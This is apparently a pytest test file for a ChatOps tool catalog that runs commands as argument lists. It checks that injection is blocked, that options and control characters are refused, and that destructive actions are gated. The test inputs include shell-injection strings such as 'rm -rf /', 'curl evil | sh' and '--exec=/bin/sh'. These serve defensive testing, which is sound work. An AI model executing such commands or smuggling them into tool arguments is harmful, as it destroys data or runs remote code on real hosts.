"""Catalog ``run`` tools: values are whole argv elements, never shell text; hostile input is refused."""

from __future__ import annotations

import json
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest

from tests.tools.fakes import FakeCommands
from tools.base import FunctionTool
from tools.catalog import load_catalog
from tools.process import run_command

CATALOG = """
tools:
  - name: restart_service
    description: Restart a systemd unit on this host.
    category: mutating
    params:
      service: {type: string, description: unit name, pattern: "^[a-z0-9@._-]+$"}
    run: ["systemctl", "restart", "{service}"]
  - name: grep_config
    description: Search the app config.
    category: read_only
    parallel: true
    params:
      text: {type: string}
      context: {type: integer, minimum: 0, maximum: 5, required: false}
      ignore_case: {type: boolean, default: false}
    run: ["appctl", "grep", "--context={context}", "--ignore-case={ignore_case}", "--", "{text}"]
  - name: raw_args
    description: Pass options through (trusted use).
    category: read_only
    params:
      option: {type: string, allow_flags: true}
    run: ["appctl", "{option}"]
  - name: annotate
    description: Annotate a deploy with who approved it.
    category: mutating
    params:
      note: {type: string}
    run: ["appctl", "annotate", "--by={confirmed_by}", "{note}"]
  - name: purge_queue
    description: Purge a queue.
    category: destructive
    params:
      queue: {type: string, enum: [emails, webhooks]}
    dry_run: ["queuectl", "count", "{queue}"]
    run: ["queuectl", "purge", "{queue}"]
  - name: slow
    description: Hangs.
    category: read_only
    timeout: 1
    run: ["sleep", "30"]
"""


@pytest.fixture
def tools(tmp_path: Path, fake_commands: FakeCommands) -> dict[str, FunctionTool[Any]]:
    for name in ("systemctl", "appctl"):
        fake_commands.add(name, stdout=f"{name} ok\n")
    fake_commands.add("queuectl", stdout="1234 messages in emails\n", when={"purge": {"stdout": "purged\n"}})
    path = tmp_path / "tools.yaml"
    path.write_text(textwrap.dedent(CATALOG))
    catalog = load_catalog(path, env=fake_commands.env)
    return {tool.name: tool for tool in catalog.tools}


def test_without_elapsed_times_a_command_s_result_is_the_same_bytes_every_time(
    tmp_path: Path, fake_commands: FakeCommands
) -> None:
    """CHATOPS_TOOL_ELAPSED=false (what chatops eval sets, so recorded model runs replay)."""
    fake_commands.add("systemctl", stdout="systemctl ok\n")
    path = tmp_path / "tools.yaml"
    path.write_text(textwrap.dedent(CATALOG))
    catalog = load_catalog(path, env=fake_commands.env, show_elapsed=False)
    tool = {tool.name: tool for tool in catalog.tools}["restart_service"]
    arguments = '{"service": "nginx", "confirmed_by": "U1"}'
    first, second = (tool.execute(arguments, timeout=10) for _ in range(2))
    assert (
        first.output == second.output == "`systemctl restart nginx` succeeded\nsystemctl ok\n(approved by U1)"
    )
    on_runner = catalog.build_for_runner(
        catalog.specs["restart_service"], run_command
    )  # how a runner builds it
    assert on_runner.execute(arguments, timeout=10).output == first.output


def test_a_run_tool_substitutes_values_and_reports_output(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands
) -> None:
    result = tools["restart_service"].execute('{"service": "nginx", "confirmed_by": "U1"}', timeout=10)
    assert not result.is_error
    lines = result.output.splitlines()
    assert lines[0].startswith("`systemctl restart nginx` succeeded in ")
    assert lines[1:] == ["systemctl ok", "(approved by U1)"]
    assert fake_commands.calls("systemctl") == [["restart", "nginx"]]


def test_optional_values_left_out_drop_their_argument(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands
) -> None:
    tools["grep_config"].execute('{"text": "timeout"}', timeout=10)
    tools["grep_config"].execute('{"text": "timeout", "context": 2, "ignore_case": true}', timeout=10)
    assert fake_commands.calls("appctl") == [
        ["grep", "--ignore-case=false", "--", "timeout"],
        ["grep", "--context=2", "--ignore-case=true", "--", "timeout"],
    ]


@pytest.mark.parametrize(
    "hostile",
    ["; rm -rf /", "$(touch /tmp/chatops-pwned)", "`reboot`", "a b c", "x' || true '", "&& curl evil | sh"],
)
def test_shell_syntax_is_one_literal_argument(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands, hostile: str
) -> None:
    result = tools["grep_config"].execute(json.dumps({"text": hostile}), timeout=10)
    assert not result.is_error
    assert fake_commands.calls("appctl") == [["grep", "--ignore-case=false", "--", hostile]]
    assert not Path("/tmp/chatops-pwned").exists()


@pytest.mark.parametrize("hostile", ["--exec=/bin/sh", "-rf", "-1"])
def test_a_leading_dash_is_refused(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands, hostile: str
) -> None:
    result = tools["grep_config"].execute(json.dumps({"text": hostile}), timeout=10)
    assert result.is_error
    assert "text: Value error, a value starting with '-' would be read as an option" in result.output
    assert fake_commands.calls("appctl") == []


def test_a_negative_number_is_refused_too(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands
) -> None:
    result = tools["grep_config"].execute('{"text": "x", "context": -1}', timeout=10)
    assert result.is_error and fake_commands.calls("appctl") == []


def test_allow_flags_lets_an_option_through_as_one_argument(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands
) -> None:
    assert not tools["raw_args"].execute('{"option": "--verbose --all"}', timeout=10).is_error
    assert fake_commands.calls("appctl") == [["--verbose --all"]]


@pytest.mark.parametrize("hostile", ["nginx\nrm -rf /", "nginx\n", "ngi\x00nx", "nginx\r"])
def test_newlines_and_control_characters_are_refused(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands, hostile: str
) -> None:
    result = tools["restart_service"].execute(
        json.dumps({"service": hostile, "confirmed_by": "U1"}), timeout=10
    )
    # Newlines reach the parameter's own check; other control characters are refused as arguments.
    assert result.is_error and ("service:" in result.output or 'argument "service"' in result.output)
    free_text = tools["grep_config"].execute(json.dumps({"text": hostile}), timeout=10)
    assert free_text.is_error and "control character" in free_text.output
    assert fake_commands.calls() == []


def test_a_value_outside_the_pattern_never_runs(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands
) -> None:
    result = tools["restart_service"].execute('{"service": "nginx;reboot", "confirmed_by": "U1"}', timeout=10)
    assert result.is_error and "service: String should match pattern" in result.output
    assert fake_commands.calls("systemctl") == []


def test_confirmed_by_reaches_the_command_and_the_model_cannot_set_it_unapproved(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands
) -> None:
    assert "confirmed_by" not in json.dumps(tools["annotate"].definition.parameters)
    tools["annotate"].execute('{"note": "deploy 42", "confirmed_by": "U024BE7LH"}', timeout=10)
    assert fake_commands.calls("appctl") == [["annotate", "--by=U024BE7LH", "deploy 42"]]
    assert tools["annotate"].execute('{"note": "x"}', timeout=10).is_error


def test_a_destructive_tool_previews_with_its_dry_run_command(
    tools: dict[str, FunctionTool[Any]], fake_commands: FakeCommands
) -> None:
    preview = tools["purge_queue"].preview('{"queue": "emails"}', timeout=10)
    assert preview is not None and "1234 messages in emails" in preview.output
    assert fake_commands.calls("queuectl") == [["count", "emails"]]
    result = tools["purge_queue"].execute('{"queue": "emails", "confirmed_by": "U1"}', timeout=10)
    assert "purged" in result.output
    assert fake_commands.calls("queuectl")[-1] == ["purge", "emails"]
    refused = tools["purge_queue"].execute('{"queue": "everything", "confirmed_by": "U1"}', timeout=10)
    assert refused.is_error and "queue: Input should be 'emails' or 'webhooks'" in refused.output


def test_a_failing_command_reports_exit_status_and_stderr(
    tmp_path: Path, fake_commands: FakeCommands
) -> None:
    fake_commands.add("systemctl", stderr="Failed to restart nginx.service: Unit not found.\n", exit_code=5)
    path = tmp_path / "tools.yaml"
    path.write_text(textwrap.dedent(CATALOG))
    (tool,) = [t for t in load_catalog(path, env=fake_commands.env).tools if t.name == "restart_service"]
    result = tool.execute('{"service": "nginx", "confirmed_by": "U1"}', timeout=10)
    assert result.is_error
    assert result.output.splitlines()[:3] == [
        "Error: `systemctl restart nginx` failed with exit status 5",
        "stderr (last lines):",
        "Failed to restart nginx.service: Unit not found.",
    ]


def test_a_hanging_command_is_killed_at_the_tool_timeout(tools: dict[str, FunctionTool[Any]]) -> None:
    started = time.monotonic()
    result = tools["slow"].execute("{}", timeout=60)
    assert time.monotonic() - started < 15  # not the command's 30 s (a bound for that alone)
    assert result.is_error
    assert result.output.startswith("Error: `sleep 30` timed out after 1 s; its process group was killed")


def test_the_loop_timeout_is_respected_when_smaller(tmp_path: Path) -> None:
    path = tmp_path / "tools.yaml"
    path.write_text(
        "tools:\n  - {name: nap, description: d, category: read_only, timeout: 120, run: [sleep, '60']}\n"
    )
    (nap,) = load_catalog(path, env={"PATH": "/usr/bin:/bin"}).tools
    started = time.monotonic()
    result = nap.execute("{}", timeout=0.5)
    assert time.monotonic() - started < 30 and "timed out after 0.5 s" in result.output  # not the 60 s


def test_a_local_argv_tool_keeps_its_own_deadline_so_the_loop_runs_it_on_its_thread(tmp_path: Path) -> None:
    from agent.tooling import enforces_own_timeout
    from tools.process import CommandResult

    path = tmp_path / "tools.yaml"
    path.write_text(
        "tools:\n"
        "  - {name: nap, description: d, category: read_only, run: [sleep, '5']}\n"
        "  - {name: ping, description: d, category: read_only, params: {url: {type: string}},"
        " http: {url: '{url}'}}\n"
    )
    catalog = load_catalog(path, env={"PATH": "/usr/bin:/bin"})
    local = {tool.name: tool for tool in catalog.tools}
    assert enforces_own_timeout(local["nap"])  # killed with its process group at the timeout
    assert not enforces_own_timeout(local["ping"])  # httpx's timeouts are per read: the pool cuts it

    def elsewhere(argv: Any, **_: Any) -> CommandResult:  # as an SSH session runs it: not ours to bound
        raise AssertionError("not called")

    assert not enforces_own_timeout(catalog.build_for_runner(catalog.specs["nap"], elsewhere))
